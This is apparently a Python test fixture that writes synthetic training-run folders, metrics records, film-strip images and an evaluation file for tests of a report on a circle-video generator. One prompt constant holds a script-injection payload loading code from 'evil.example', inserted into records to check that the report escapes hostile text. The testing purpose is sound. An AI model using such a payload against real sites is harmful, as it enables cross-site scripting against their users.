"""Run folders for the tests of the report, written record by record."""

import hashlib
import json
import math
from pathlib import Path

import numpy as np
from PIL import Image

HOSTILE = """circle "><script src='https://evil.example/x.js'>alert(1)</script>&'"""
HELD_OUT = "circle moving up-right"
PROMPTS = ("circle moving left", "circle moving right", HOSTILE, HELD_OUT)
FRAMES, HEIGHT, WIDTH = 5, 12, 16
NUM_SEEDS = 3


def clock(step: int) -> dict:
    return {"step": step, "clips_seen": 16 * step, "seconds": 0.1 * step, "wall_time": 1.7e9 + step}


def strips(num_clips: int = len(PROMPTS), seed: int = 0) -> Image.Image:
    shape = (num_clips * HEIGHT, FRAMES * WIDTH, 3)
    return Image.fromarray(np.random.default_rng(seed).integers(0, 256, shape, dtype=np.uint8))


def add_samples(run_dir: Path, step: int, *, prompts=PROMPTS, suffix="webp", **changes) -> dict:
    """Write a film-strip picture and return its record."""
    file = f"samples/step_{step:08d}.{suffix}"
    (run_dir / "samples").mkdir(exist_ok=True)
    strips(len(prompts), seed=step).save(run_dir / file, lossless=True, method=0)
    geometry = {"num_frames": FRAMES, "height": HEIGHT, "width": WIDTH}
    return {"kind": "samples", "file": file, "prompts": [*prompts], **geometry, **clock(step),
            **changes}  # fmt: skip


def add_seeds(run_dir: Path, step: int) -> dict:
    """Write some prompts with several seeds, and return their record."""
    prompts = [prompt for prompt in PROMPTS[1:] for _ in range(NUM_SEEDS)]
    record = add_samples(run_dir, 10**6 + step, prompts=prompts)
    return record | {"kind": "seeds", **clock(step)}


def data_record(run_dir: Path) -> dict:
    """Write real clips of the prompts that training showed, and return the record of the data."""
    return add_samples(run_dir, 10**7, prompts=PROMPTS[:-1]) | {
        "kind": "data",
        **clock(0),
        "builder": "circles",
        "builder_config": {"num_clips": 100, "size": "12x16", "seed": 4},
        "fingerprint": "0123abc",
        "num_clips": 100,
    }


def train_record(step: int) -> dict:
    return {
        "kind": "train",
        **clock(step),
        "clips_per_second": 160.0,
        "loss/discriminator": 0.5 + math.sin(step),
        "loss/generator": 1.5,
        "penalty": None if step == 300 else 10 / (step + 1),  # a NaN, as the run log writes it
        "logits/real": 1.0,
        "logits/fake": -1.0,
        "lr/generator": 2e-3,
        "lr/discriminator": 1e-3,
        "gamma": 10.0,
        "ema/halflife": 500.0,
        "data/bad_samples": 0,
        "tomorrow/number": 7.0,
    }


def evaluation_record(step: int, accuracy: float, held_out: float) -> dict:
    per_prompt = dict.fromkeys(PROMPTS, accuracy) | {HELD_OUT: held_out}
    return {
        "kind": "evaluation",
        **clock(step),
        "accuracy": accuracy,
        "accuracy_held_out": held_out,
        "one_object": 0.98,
        "spread": {"start": 0.1, "size": 0.02, "speed": None},
        "num_clips": 80,
        "accuracy_interval": [0.85, 0.95],
        "per_attribute": {
            "shape": {
                "right": accuracy,
                "right_interval": [0.8, 0.99],
                "right_held_out": held_out,
                "confusion": {"star": {"star": 19, "none": 1}, HOSTILE: {"star": 5, "oval": 15}},
            },
            "motion": {"right": 1.0, "confusion": {"left": {"left": 400, "right": 1}}},
        },
        "diversity": 0.8,
        "per_prompt": per_prompt,
        "held_out_prompts": [HELD_OUT],
        "clips_per_prompt": dict.fromkeys(PROMPTS, 20),
    }


def write_metrics(run_dir: Path, records: list[dict]) -> None:
    lines = (json.dumps(record) for record in records)
    (run_dir / "metrics.jsonl").write_text("".join(f"{line}\n" for line in lines))


def make_run(folder: Path) -> Path:
    """Write a run of 1,000 steps with everything in it."""
    folder.mkdir(parents=True)
    records = [train_record(step) for step in range(0, 1001, 100)]
    records += [add_samples(folder, step) for step in range(0, 1001, 100)]
    records += [add_seeds(folder, step) for step in (500, 1000)] + [data_record(folder)]
    records += [evaluation_record(500, 1.0, 0.95), evaluation_record(1000, 0.9, 0.5)]
    records += [{"kind": "event", **clock(400), "message": "resumed from <step_400>"}]
    write_metrics(folder, sorted(records, key=lambda record: record["step"]))
    config = {"train": {"seed": 3, "betas": [0.0, 0.99]}}
    (folder / "config.json").write_text(json.dumps(config))
    command = ["accelerate", "launch", "train.py", "quickstart", "--run-dir", "a b"]
    environment = {"command": command, "device": "cpu", "git_commit": "c0ffee"}
    (folder / "run.json").write_text(json.dumps(environment))
    return folder


def make_evaluation(file: Path) -> Path:
    """Write the evaluation of somebody else's videos, and its picture: no run, other data."""
    protocol = {
        "version": "attributes-5",
        "dataset_builder": "<shapes>",
        "dataset_fingerprint": "abc",
        "num_clips": 2000,
        "num_frames": FRAMES,
        "height": HEIGHT,
        "width": WIDTH,
    }
    picture = file.with_suffix(".png")
    strips(2, seed=1).save(picture)
    record = {
        "protocol": protocol,
        "generated": evaluation_record(0, 0.4, 0.7) | {"accuracy_held_out_interval": [0.6, 0.8]},
        "relative_to_real": {"diversity": 0.25, "drift_area": None},
        "ceiling": {"accuracy": 0.999},
        "distribution": {"frechet": {"generated": 3.0, "floor": 1.5}},
        "shown": {
            "file": picture.name,
            "sha256": hashlib.sha256(picture.read_bytes()).hexdigest(),
            "prompts": [PROMPTS[0], HELD_OUT],
            "held_out_prompts": [HELD_OUT],
        },
    }
    file.write_text(json.dumps(record))
    return file
